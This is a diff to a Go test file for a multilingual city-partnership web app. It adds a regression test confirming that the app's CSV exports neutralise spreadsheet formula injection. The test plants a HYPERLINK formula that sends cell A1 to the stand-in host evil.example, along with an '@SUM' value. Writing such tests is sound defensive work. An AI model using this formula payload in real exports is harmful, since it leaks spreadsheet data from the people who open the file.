@@ -1,6 +1,7 @@
 package web_test
 
 import (
+	"encoding/csv"
 	"net/http"
 	"regexp"
 	"strings"
@@ -162,5 +163,46 @@ func TestTranslatorCannotCheckOtherLanguages(t *testing.T) {
 	csv := admin.get("/admin/sites/seinajoki/translations/parity.csv").body
 	if !regexp.MustCompile(`city/\d+,[^\n]*,description,fi,outdated`).MatchString(csv) {
 		t.Errorf("Finnish description no longer out of date:\n%s", csv)
+	}
+}
+
+// Finding 10: a city name that is a spreadsheet formula reaches neither the open-data CSV
+// nor the parity CSV as one.
+func TestCSVCellsNeverStartAFormula(t *testing.T) {
+	e := newEnv(t)
+	s := siedlceEditor(t, e, "jan@siedlce.pl")
+	s.lang = "it"
+	formula := `=HYPERLINK("http://evil.example/?"&A1,"x")`
+	publishField(t, s, e, "siedlce", "pescantina", "name_it", formula)
+	path := "/admin/sites/siedlce/cities/" + itoa(cityID(t, e, "siedlce", "dasing"))
+	form := formOf(t, s.get(path).body)
+	form.Set("name_it", "@SUM(1+1)")
+	form.Set("description_it", form.Get("description_it")+" Nuova frase.")
+	form.Set("description_pl", "")
+	form.Set("action", "draft")
+	if res := s.post(path, form); res.StatusCode != http.StatusSeeOther {
+		t.Fatalf("draft: %d\n%.2000s", res.StatusCode, res.body)
+	}
+	e.srv.Invalidate()
+	for name, body := range map[string]string{
+		"open data": e.get(t, siedlce, "/data/partnerships.csv").body,
+		"parity":    s.get("/admin/sites/siedlce/translations/parity.csv").body,
+	} {
+		rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
+		if err != nil {
+			t.Fatalf("%s: %v", name, err)
+		}
+		found := false
+		for _, row := range rows {
+			for _, cell := range row {
+				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !regexp.MustCompile(`^-?[0-9.]+$`).MatchString(cell) {
+					t.Errorf("%s: a cell starts a formula: %q", name, cell)
+				}
+				found = found || strings.Contains(cell, "HYPERLINK") || strings.Contains(cell, "@SUM")
+			}
+		}
+		if !found {
+			t.Errorf("%s: the names are not in the CSV:\n%s", name, body)
+		}
 	}
 }
